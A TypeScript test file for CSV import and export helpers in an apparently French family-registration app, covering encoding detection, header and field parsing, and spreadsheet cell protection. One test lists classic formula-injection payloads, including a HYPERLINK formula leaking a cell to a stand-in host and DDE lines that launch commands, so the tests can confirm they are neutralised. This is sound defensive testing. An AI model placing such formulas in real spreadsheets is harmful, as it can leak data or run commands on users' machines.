import { describe, expect, it } from 'vitest';
import { asColumn, formatDiet, formatRhythm, isMobileNumber, parseDiet, parsePayer, parseRhythm, parseStatus } from '../../main/services/families/csv-format.js';
import { decodeCsv, normaliseHeader } from '../../main/store/csv.js';
import { protectCell, unprotectCell } from '../../shared/domain/spreadsheet.js';

describe('CSV format helpers', () => {
  it('detects UTF-8 (with or without BOM) and falls back to Windows-1252', () => {
    expect(decodeCsv(Buffer.from('\ufeffnom;Élodie', 'utf8'))).toEqual({ text: 'nom;Élodie', encoding: 'utf-8' });
    expect(decodeCsv(Buffer.from('nom;Élodie', 'utf8'))).toEqual({ text: 'nom;Élodie', encoding: 'utf-8' });
    // « Élodie ; Noël » as Windows-1252 bytes: É = 0xC9, ë = 0xEB (invalid UTF-8)
    const latin = Buffer.from([0xc9, 0x6c, 0x6f, 0x64, 0x69, 0x65, 0x3b, 0x4e, 0x6f, 0xeb, 0x6c]);
    expect(decodeCsv(latin)).toEqual({ text: 'Élodie;Noël', encoding: 'windows-1252' });
    // € ’ œ are 0x80, 0x92, 0x9C in Windows-1252 (not Latin-1)
    expect(decodeCsv(Buffer.from([0x80, 0x20, 0x4e, 0x92, 0x44, 0x20, 0x9c])).text).toBe('€ N’D œ');
  });

  it('reads column names whatever the case, accents and spacing', () => {
    expect(normaliseHeader('Réf famille')).toBe('ref_famille');
    expect(asColumn(' RL1_Prénom ')).toBe('rl1_prenom');
    expect(asColumn('Enfant-Naissance')).toBe('enfant_naissance');
    expect(asColumn('\ufeffref_famille')).toBe('ref_famille');
    expect(asColumn('Ecole')).toBe('ecole');
    expect(asColumn('école')).toBe('ecole');
    expect(asColumn('couleur')).toBeNull();
  });

  it('reads rhythms as agents type them, and reads back what the export writes', () => {
    expect(parseRhythm('L M J V')).toEqual([1, 2, 4, 5]);
    expect(parseRhythm('L Ma Me J V')).toEqual([1, 2, 3, 4, 5]);
    expect(parseRhythm('1,2,4,5')).toEqual([1, 2, 4, 5]);
    expect(parseRhythm('lun;mar')).toEqual([1, 2]);
    expect(parseRhythm('lundi mardi jeudi')).toEqual([1, 2, 4]);
    expect(parseRhythm('tous les jours')).toEqual([1, 2, 3, 4, 5]);
    expect(parseRhythm('samedi')).toBeNull();
    expect(parseRhythm('beaucoup')).toBeNull();
    for (const days of [[1, 2, 4, 5], [1, 2, 3, 4, 5], [3], [2, 5]]) {
      expect(parseRhythm(formatRhythm(days))).toEqual(days);
    }
  });

  it('reads diets, payers and statuses', () => {
    expect(parseDiet('')).toBe('none');
    expect(parseDiet('Aucun')).toBe('none');
    expect(parseDiet('Sans viande')).toBe('no_meat');
    expect(parseDiet('SANS  VIANDE')).toBe('no_meat');
    expect(parseDiet('PAI')).toBe('pai');
    expect(parseDiet('halal')).toBeNull();
    for (const diet of ['none', 'no_meat', 'pai'] as const) expect(parseDiet(formatDiet(diet))).toBe(diet);
    expect(parsePayer('')).toBe(1);
    expect(parsePayer('2')).toBe(2);
    expect(parsePayer('RL2')).toBe(2);
    expect(parsePayer('3')).toBeNull();
    expect(parseStatus('')).toBe('active');
    expect(parseStatus('Radié')).toBe('radiated');
    expect(parseStatus('en attente')).toBe('pending');
    expect(parseStatus('perdu')).toBeNull();
  });

  it('tells mobile numbers from landlines', () => {
    expect(isMobileNumber('06 12 34 56 78')).toBe(true);
    expect(isMobileNumber('+33712345678')).toBe(true);
    expect(isMobileNumber('01 43 00 00 00')).toBe(false);
  });

  // OWASP's classic payloads, and the numbers and phones an export must keep as they are.
  it.each([
    ['=HYPERLINK("http://x.example/?d="&A1,"Cliquez")', true],
    ['=1+1', true],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', true],
    ["+1+cmd|' /C calc'!A0", true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ['-10+20', true],
    ['+cmd', true],
    ['-x', true],
    ['\t=1+1', true],
    ['\r=1+1', true],
    ['=-2+3', true],
    ['-12', false],
    ['196,00', false],
    ['-3,62', false],
    ['+33 6 12 34 56 78', false],
    ['+33612345678', false],
    ['+44 20 7946 0958', false],
    ["N'Diaye", false],
    ['Élodie', false],
    ['06 12 34 56 78', false],
  ])('%j guarded: %s', (value, guarded) => {
    expect(protectCell(value)).toBe(guarded ? `'${value}` : value);
    expect(unprotectCell(protectCell(value))).toBe(value);
  });

  it('leaves a typed apostrophe that guards nothing on import', () => {
    expect(unprotectCell("'Tout")).toBe("'Tout");
    expect(unprotectCell("'-12")).toBe("'-12");
  });
});
